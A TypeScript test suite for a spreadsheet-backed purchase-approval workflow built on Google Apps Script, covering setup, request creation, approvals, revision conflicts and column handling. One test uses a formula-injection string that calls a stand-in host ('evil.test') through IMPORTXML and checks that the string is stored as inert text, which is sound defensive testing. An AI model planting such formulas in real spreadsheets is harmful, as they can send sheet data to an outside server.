import { applyActionCommand, createRequestCommand } from '../../../src/gas/commands/requests';
import { getRequest, readAudit, readOutbox } from '../../../src/gas/commands/read';
import { setUp } from '../../../src/gas/setup/setup';
import { ConflictError, MissingColumnError, RefusedError } from '../../../src/gas/errors';
import { TABS } from '../../../src/gas/sheet/tabs';
import { verifyChain } from '../../../src/core';
import { FAY, governedSheet, laptop, MAX, RITA } from './fixtures';
import { OWNER, testWorkspace } from './workspace';

const actor = (email: string) => ({ email, method: 'session' as const });

describe('set up / repair', () => {
  it('creates every tab with its headers, makes the owner admin, protects Requests and Audit', () => {
    const t = testWorkspace();
    const report = t.as(OWNER, () => setUp(t.ctx()));
    expect(report.problems).toEqual([]);
    expect(report.created).toEqual(TABS.map((s) => s.name));
    for (const spec of TABS) expect(t.sheet.values(spec.name)[0]?.slice(0, spec.columns.length)).toEqual([...spec.columns]);
    expect(t.sheet.values('Directory')[1]?.slice(0, 3)).toEqual([OWNER, 'ada', 'admin']);
  });

  it('a second run changes nothing and writes nothing', () => {
    const t = testWorkspace();
    t.as(OWNER, () => setUp(t.ctx()));
    const before = JSON.stringify(TABS.map((s) => t.sheet.values(s.name)));
    const { cost, result } = t.ws.kernel.measure(() => t.as(OWNER, () => setUp(t.ctx())));
    expect(result).toEqual({ created: [], repaired: [], problems: [], changed: false });
    expect(JSON.stringify(TABS.map((s) => t.sheet.values(s.name)))).toBe(before);
    const writes = Object.keys(cost.calls).filter((k) =>
      /\.(setValues|setValue|insertSheet|protect|addEditors|removeEditors|setDescription|appendRow|setProperty)$/.test(k),
    );
    expect(writes).toEqual([]);
  });

  it('repairs a deleted tab and reports a renamed required column on a tab with data', () => {
    const t = governedSheet();
    t.as(RITA, () =>
      createRequestCommand(t.ctx(), {
        workflowId: 'purchase-approval',
        requester: RITA,
        fields: laptop,
        channel: 'form',
        actor: actor(RITA),
      }),
    );
    t.sheet.write('Requests', 'E1', [['Status']]); // State renamed
    t.ws.kernel.meter.unmetered(() => {
      const ss = (t.services.SpreadsheetApp as GoogleAppsScript.Spreadsheet.SpreadsheetApp).openById(t.spreadsheetId);
      ss.deleteSheet(ss.getSheetByName('Outbox')!);
    });
    const report = t.as(OWNER, () => setUp(t.ctx()));
    expect(report.created).toEqual(['Outbox']);
    expect(report.problems).toHaveLength(1);
    expect(report.problems[0]).toContain('"State"');
    expect(report.problems[0]).toContain('Requests');
  });
});

describe('requests on the governed sheet', () => {
  it("creates a request: one row that round-trips to the engine's Request, audit rows chained, notifications queued", () => {
    const t = governedSheet();
    const r = t.as(RITA, () =>
      createRequestCommand(t.ctx(), {
        workflowId: 'purchase-approval',
        requester: RITA,
        fields: laptop,
        channel: 'form',
        actor: actor(RITA),
      }),
    );
    expect(r.request.id).toBe('PR-000001');
    expect(getRequest(t.ctx(), 'PR-000001')).toEqual(r.request);
    const rows = t.sheet.values('Requests');
    expect(rows).toHaveLength(2);
    const audit = readAudit(t.ctx());
    expect(audit.map((a) => a.event)).toEqual(r.events);
    expect(verifyChain(audit)).toEqual({ ok: true, count: audit.length });
    expect(readOutbox(t.ctx()).map((o) => o.key)).toEqual(r.notifications.map((n) => n.dedupeKey));
  });

  it('approves: revision bumps, the row is rewritten in place, operator columns survive', () => {
    const t = governedSheet();
    const c = t.as(RITA, () =>
      createRequestCommand(t.ctx(), {
        workflowId: 'purchase-approval',
        requester: RITA,
        fields: laptop,
        channel: 'form',
        actor: actor(RITA),
      }),
    );
    t.sheet.write('Requests', 'Z1', [['Operator notes'], ['call vendor']]);
    const a = t.as(MAX, () =>
      applyActionCommand(t.ctx(), { requestId: c.request.id, action: { type: 'approve' }, actor: actor(MAX), expectedRevision: 1 }),
    );
    expect(a.request.revision).toBe(2);
    expect(a.request.state).toBe('ordering');
    expect(getRequest(t.ctx(), c.request.id)).toEqual(a.request);
    const rows = t.sheet.values('Requests');
    expect(rows).toHaveLength(2);
    expect(rows[1]?.[25]).toBe('call vendor');
  });

  it('refuses a stale revision with a typed conflict and overwrites nothing', () => {
    const t = governedSheet();
    const c = t.as(RITA, () =>
      createRequestCommand(t.ctx(), {
        workflowId: 'purchase-approval',
        requester: RITA,
        fields: { ...laptop, amount: 9000 },
        channel: 'form',
        actor: actor(RITA),
      }),
    );
    t.as(MAX, () =>
      applyActionCommand(t.ctx(), { requestId: c.request.id, action: { type: 'approve' }, actor: actor(MAX), expectedRevision: 1 }),
    );
    const before = JSON.stringify(t.sheet.values('Requests'));
    const auditBefore = t.sheet.values('Audit').length;
    let err: unknown;
    try {
      t.as(FAY, () =>
        applyActionCommand(t.ctx(), { requestId: c.request.id, action: { type: 'approve' }, actor: actor(FAY), expectedRevision: 1 }),
      );
    } catch (e) {
      err = e;
    }
    expect(err).toBeInstanceOf(ConflictError);
    expect(err).toMatchObject({ code: 'conflict', expectedRevision: 1, actualRevision: 2 });
    expect(JSON.stringify(t.sheet.values('Requests'))).toBe(before);
    expect(t.sheet.values('Audit')).toHaveLength(auditBefore);
  });

  it('passes engine refusals through as RefusedError', () => {
    const t = governedSheet();
    const c = t.as(RITA, () =>
      createRequestCommand(t.ctx(), {
        workflowId: 'purchase-approval',
        requester: RITA,
        fields: laptop,
        channel: 'form',
        actor: actor(RITA),
      }),
    );
    expect(() =>
      t.as(FAY, () =>
        applyActionCommand(t.ctx(), { requestId: c.request.id, action: { type: 'approve' }, actor: actor(FAY), expectedRevision: 1 }),
      ),
    ).toThrow(RefusedError);
  });

  it('finds columns by header: reordered columns work; a missing one is named and nothing is written', () => {
    const t = governedSheet();
    const c = t.as(RITA, () =>
      createRequestCommand(t.ctx(), {
        workflowId: 'purchase-approval',
        requester: RITA,
        fields: laptop,
        channel: 'form',
        actor: actor(RITA),
      }),
    );
    // Swap the Assignee and Requester columns (header and data).
    const rows = t.sheet.values('Requests');
    t.sheet.write(
      'Requests',
      'F1',
      rows.map((r) => [r[6], r[5]]),
    );
    expect(getRequest(t.ctx(), c.request.id)).toEqual(c.request);
    t.sheet.write('Requests', 'K1', [['Last change']]); // "Updated" renamed
    const before = JSON.stringify([t.sheet.values('Requests'), t.sheet.values('Audit'), t.sheet.values('Outbox')]);
    let err: unknown;
    try {
      t.as(MAX, () =>
        applyActionCommand(t.ctx(), { requestId: c.request.id, action: { type: 'approve' }, actor: actor(MAX), expectedRevision: 1 }),
      );
    } catch (e) {
      err = e;
    }
    expect(err).toBeInstanceOf(MissingColumnError);
    expect((err as Error).message).toContain('"Requests"');
    expect((err as Error).message).toContain('"Updated"');
    expect(JSON.stringify([t.sheet.values('Requests'), t.sheet.values('Audit'), t.sheet.values('Outbox')])).toBe(before);
  });

  it('stores formula-looking and long user text as text, exactly', () => {
    const t = governedSheet();
    const evil = '=IMPORTXML("http://evil.test","//a")';
    const long = 'x'.repeat(49_990) + '=y';
    const fields = { ...laptop, item: evil, vendor: '+1 555 0100', justification: long };
    const c = t.as(RITA, () =>
      createRequestCommand(t.ctx(), { workflowId: 'purchase-approval', requester: RITA, fields, channel: 'form', actor: actor(RITA) }),
    );
    const back = getRequest(t.ctx(), c.request.id)!;
    expect(back.fields).toEqual(c.request.fields);
    expect(back.fields.item).toBe(evil);
    const sheets = (t.ws as unknown as { sheets: { get(id: string): { formulas(tab: string): string[][] } } }).sheets;
    for (const tab of ['Requests', 'Audit', 'Outbox'])
      expect(
        sheets
          .get(t.spreadsheetId)
          .formulas(tab)
          .flat()
          .filter((f) => f !== ''),
      ).toEqual([]);
    const summaryCol = t.sheet.values('Requests')[0]!.indexOf('Summary');
    expect(t.sheet.values('Requests')[1]![summaryCol]).toBe(evil);
  });
});
